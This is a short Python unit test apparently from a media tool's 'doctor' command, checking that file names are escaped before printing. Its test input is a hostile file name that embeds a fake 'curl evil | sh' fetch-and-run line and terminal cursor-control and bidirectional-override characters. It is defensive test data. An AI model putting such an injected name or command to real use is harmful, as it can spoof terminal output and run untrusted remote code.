"""What the doctor prints comes from names that others chose."""

from vitascope.cli.doctor import shown


def test_a_name_cannot_write_lines_or_move_the_cursor() -> None:
    hostile = "a.mkv\n      -> curl evil | sh\x1b[2A\x9b\u202e\udcff"
    assert shown(hostile) == "a.mkv\\n      -> curl evil | sh\\x1b[2A\\x9b\\u202e\\udcff"
    assert shown("Amélie – 千と千尋.mkv") == "Amélie – 千と千尋.mkv"
